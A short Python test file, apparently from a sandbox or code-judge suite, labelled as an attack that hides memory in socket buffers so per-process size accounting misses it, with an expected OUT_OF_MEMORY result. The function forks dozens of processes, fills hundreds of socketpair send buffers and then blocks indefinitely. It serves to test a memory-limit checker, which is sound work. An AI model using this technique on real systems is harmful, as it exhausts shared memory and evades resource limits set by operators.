# attack: keeps memory in the buffers of sockets, which no process's size tells
# checks: double_right
# outcome: double_right=OUT_OF_MEMORY
import os
import socket


def double(number):
    for _ in range(40):
        if os.fork() == 0:
            break
    kept = [socket.socketpair() for _ in range(480)]
    for one, _ in kept:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_000_000)
        one.setblocking(False)
        try:
            while True:
                one.send(bytes(65536))
        except BlockingIOError:
            pass
    os.read(os.pipe()[0], 1)
